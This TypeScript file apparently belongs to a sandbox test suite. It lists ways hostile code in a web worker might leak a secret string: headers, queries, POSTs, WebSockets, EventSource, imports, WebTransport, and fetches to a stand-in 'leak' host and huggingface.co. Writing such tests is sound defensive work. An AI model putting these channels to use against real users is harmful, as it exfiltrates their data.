import type { HostileTries } from './hostile-try.ts';

/** What code can do that has turned hostile in a thread, or in a thread that it starts itself. */
export const threadTries: HostileTries = {
  'own-files-with-headers': async ({ own, paths, text }) => {
    const ways: RequestInit[] = (['no-store', 'reload', 'no-cache', 'default', 'only-if-cached'] as const).flatMap(
      (cache): RequestInit[] => [
        { cache, headers: { 'x-text': text } },
        { cache, headers: { Accept: text } },
        { cache, headers: { 'Accept-Language': text } },
        { cache, headers: { Range: `bytes=1-2${text.length}` } },
        { cache, mode: 'same-origin' },
        { cache, mode: 'no-cors', keepalive: true },
        { cache, referrer: `${own}/${text}`, referrerPolicy: 'unsafe-url' },
      ],
    );
    for (const path of paths)
      await Promise.allSettled(ways.map(async (init) => await (await fetch(own + path, init)).arrayBuffer()));
  },
  'own-files-with-queries': async ({ own, paths, text }) => {
    for (const path of paths)
      await Promise.allSettled(
        [`${path}?${text}`, `${path}/${text}`, `/assets/${text}.js`, `/models/${text}/manifest.json`].map(
          async (address) => await fetch(own + address, { cache: 'no-store' }),
        ),
      );
  },
  'post-to-own-files': async ({ own, paths, text }) => {
    await Promise.allSettled(paths.map(async (path) => await fetch(own + path, { method: 'POST', body: text })));
  },
  'event-source': async ({ own, paths, text }) => {
    for (const path of paths.slice(0, 12)) void new EventSource(`${own}${path}`);
    void new EventSource(`${own}/${text}`);
  },
  xhr: async ({ own, paths, text }) => {
    for (const path of paths) {
      const request = new XMLHttpRequest();
      request.open('GET', own + path);
      request.setRequestHeader('x-text', text);
      request.setRequestHeader('Cache-Control', 'no-store');
      request.send();
    }
  },
  'web-socket': ({ own, leak, text }) => {
    for (const one of [own, leak]) void new WebSocket(`${one.replace('http', 'ws')}/${text}`, [text]);
  },
  'fetch-stranger': async ({ leak, text }) => {
    await Promise.allSettled([
      fetch(`${leak}/${text}`, { mode: 'no-cors' }),
      fetch(leak, { method: 'POST', mode: 'no-cors', body: text, keepalive: true }),
      fetch(`https://huggingface.co/${text}`, { mode: 'no-cors' }),
    ]);
  },
  'import-with-a-query': async ({ own, leak, paths, text }) => {
    for (const one of [`${leak}/${text}.js`, ...paths.filter((path) => path.endsWith('.js')).map((path) => own + path)])
      await import(/* @vite-ignore */ `${one}?${text}`).catch(() => {}); // refused, as it should be
  },
  'import-scripts': ({ own, text }) => {
    (globalThis as unknown as { importScripts(address: string): void }).importScripts(
      `${own}/assets/common.js?${text}`,
    );
  },
  'cache-add': async ({ own, paths, text }) => {
    const cache = await caches.open('hostile');
    await Promise.allSettled(
      paths.map(
        async (path) => await cache.add(new Request(own + path, { cache: 'no-store', headers: { Accept: text } })),
      ),
    );
    await caches.delete('hostile');
  },
  'threads-of-listed-files': ({ own, paths, text }) => {
    for (const path of paths.filter((one) => one.endsWith('.worker.js')))
      for (const address of [own + path, `${own}${path}?${text}`, `${own}${path}#${text}`])
        for (const type of ['classic', 'module'] as const)
          try {
            void new Worker(address, { type, name: text, credentials: 'include' });
          } catch {
            // refused at once
          }
  },
  'web-transport': async ({ leak, text }) => {
    const { WebTransport: Transport } = globalThis as unknown as { WebTransport: new (url: string) => object };
    void new Transport(`${leak.replace('http:', 'https:')}/${text}`);
  },
};
